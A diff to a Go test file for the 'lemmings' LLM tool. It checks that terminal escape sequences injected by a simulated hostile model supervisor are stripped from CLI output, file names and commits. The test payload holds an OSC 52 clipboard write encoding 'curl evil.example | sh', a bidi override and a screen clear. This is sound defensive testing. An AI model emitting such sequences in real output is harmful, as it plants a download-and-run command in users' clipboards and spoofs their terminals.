@@ -3,12 +3,17 @@ package main
 import (
 	"bytes"
 	"context"
+	"encoding/json"
+	"fmt"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 	"time"
 
 	"github.com/lemmings-dev/lemmings/demo"
+	"github.com/lemmings-dev/lemmings/llm/llmtest"
+	"github.com/lemmings-dev/lemmings/nodes/prompts"
 )
 
 // The attacks of issue 43 on what lemmings reads, prints and keeps (the
@@ -73,5 +78,135 @@ func TestAFIFOInTheWorkTreeFailsTheAttemptNamedAndTheRunGoesOn(t *testing.T) {
 	}
 	if got := git(t, repo, "show", res["branch"].(string)+":textstats.go"); !strings.Contains(got, "float64(total) / float64(len(words))") {
 		t.Errorf("the fix is not on the branch:\n%s", got)
+	}
+}
+
+// evilText is what a hostile supervisor slips into its words: OSC 52
+// (writes the user's clipboard), a screen clear, a bidirectional override
+// (shows what follows reversed) and a bell.
+const evilText = " \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2J\u202eexe.txt\a"
+
+// evilTitle is evilText without the semicolons that would split the
+// directive into several tasks.
+const evilTitle = " \x1b[2J\u202eexe.txt\a"
+
+// rawEscapes lists the characters of evilText found raw in out.
+func rawEscapes(out string) []string {
+	var found []string
+	for _, c := range []string{"\x1b", "\u202e", "\a", "\u009b"} {
+		if strings.Contains(out, c) {
+			found = append(found, strconvQuote(c))
+		}
+	}
+	return found
+}
+
+func strconvQuote(s string) string { return fmt.Sprintf("%+q", s) }
+
+// hostileSupervisor is the demo's Code Style supervisor with evilText in
+// its directive's description and rationale, in its document's title, and
+// in the path it asks its document written at; the implementor of the
+// directive's task is the demo's, told the title without it.
+func hostileSupervisor(script *demo.Script) []llmtest.Step {
+	cloud, local := script.Steps()[1].Respond, script.Steps()[0].Respond
+	roleIs := func(role string) func(llmtest.Call) bool {
+		return func(c llmtest.Call) bool { return len(c.Messages) > 0 && c.Role() == role }
+	}
+	sup := llmtest.Step{Name: "hostile code style", API: llmtest.OpenAI, Times: -1, Match: roleIs(prompts.CodeStyle),
+		Respond: func(c llmtest.Call) llmtest.Reply {
+			r := cloud(c)
+			var v map[string]any
+			if json.Unmarshal([]byte(r.Content), &v) != nil {
+				return r
+			}
+			for _, d := range v["directives"].([]any) {
+				d := d.(map[string]any)
+				d["description"] = d["description"].(string) + evilTitle
+				d["rationale"] = d["rationale"].(string) + evilText
+			}
+			for _, d := range v["docs"].([]any) {
+				d := d.(map[string]any)
+				d["title"] = d["title"].(string) + evilText
+				d["path"] = "conventions/\u202ebad\x1b]0;x\x07.md"
+			}
+			v["summary"] = v["summary"].(string) + evilText
+			body, _ := json.Marshal(v)
+			r.Content = string(body)
+			return r
+		}}
+	impl := llmtest.Step{Name: "implementor without the escapes", API: llmtest.Ollama, Times: -1, Match: roleIs(prompts.Implementor),
+		Respond: func(c llmtest.Call) llmtest.Reply {
+			c.Messages = slices.Clone(c.Messages)
+			for i := range c.Messages {
+				c.Messages[i].Content = strings.ReplaceAll(c.Messages[i].Content, strings.TrimSpace(evilTitle), "")
+			}
+			return local(c)
+		}}
+	return []llmtest.Step{sup, impl}
+}
+
+// Reproductions 8 and 9: a supervisor's directive holding OSC 52 and
+// U+202E was printed raw by run, directives, history, report and log, a
+// knowledge file was named with them, and a commit subject held the raw
+// ESC. No output, file name or commit holds them now; --json keeps the
+// text, escaped.
+func TestASupervisorsEscapesReachNoTerminalFileNameOrCommit(t *testing.T) {
+	repo := prepared(t)
+	script := &demo.Script{}
+	srv := demo.NewServer(script, hostileSupervisor(script)...)
+	t.Cleanup(srv.Close)
+	c := newCLI(t)
+	c.config(scriptedConfig(srv.URL(), "blocking"))
+	r := c.runWithin(t, 4*time.Minute, repo, "run", "--full", demo.Remit)
+	if r.code != 0 {
+		t.Fatalf("run: exit %d\nstdout:\n%s\nstderr:\n%s", r.code, r.stdout, r.stderr)
+	}
+	if bad := rawEscapes(r.stdout + r.stderr); len(bad) > 0 {
+		t.Errorf("lemmings run printed %v raw:\n%q", bad, r.stdout+r.stderr)
+	}
+	jr := c.run(repo, "runs", "--json")
+	var runID string
+	for _, l := range strings.Split(strings.TrimSpace(jr.stdout), "\n") {
+		var m map[string]any
+		if json.Unmarshal([]byte(l), &m) == nil && m["run_id"] != nil {
+			runID = m["run_id"].(string)
+		}
+	}
+	if runID == "" {
+		t.Fatalf("no run listed:\n%s", jr.stdout)
+	}
+	shown := false
+	for _, args := range [][]string{{"directives", runID}, {"directives", "--json", runID}, {"history", runID}, {"report", runID},
+		{"report", "--json", runID}, {"log", runID}, {"log", "--json", runID}, {"log", "-v", runID}, {"status", runID}, {"status", "--json", runID}, {"runs"}} {
+		out := c.run(repo, args...)
+		if out.code != 0 {
+			t.Errorf("lemmings %v: exit %d\n%s", args, out.code, out.stderr)
+		}
+		if bad := rawEscapes(out.stdout + out.stderr); len(bad) > 0 {
+			t.Errorf("lemmings %v printed %v raw:\n%q", args, bad, out.stdout)
+		}
+		if slices.Contains(args, "--json") && strings.Contains(out.stdout, `\u001b]52;c;`) && strings.Contains(out.stdout, `\u202e`) {
+			shown = true // the text is kept, escaped
+		}
+	}
+	if !shown {
+		t.Error("no --json output keeps the directive's text escaped")
+	}
+	runDir := filepath.Join(repo, ".lemmings", "runs", runID)
+	for _, f := range []string{"report.md", "board.md"} {
+		if bad := rawEscapes(readFile(t, filepath.Join(runDir, f))); len(bad) > 0 {
+			t.Errorf("%s holds %v raw", f, bad)
+		}
+	}
+	branch := "lemmings/" + runID
+	if bad := rawEscapes(git(t, repo, "log", "--format=%B", "main.."+branch)); len(bad) > 0 {
+		t.Errorf("a commit message holds %v raw:\n%s", bad, git(t, repo, "log", "--format=%B", "main.."+branch))
+	}
+	if !strings.Contains(git(t, repo, "log", "--format=%s", "main.."+branch), "Add a doc comment to MeanWordLength") {
+		t.Errorf("the directive's task was not committed:\n%s", git(t, repo, "log", "--format=%s", "main.."+branch))
+	}
+	files := git(t, repo, "ls-tree", "-r", "-z", "--name-only", branch)
+	if bad := rawEscapes(files); len(bad) > 0 {
+		t.Errorf("a file of the branch is named with %v: %q", bad, files)
 	}
 }
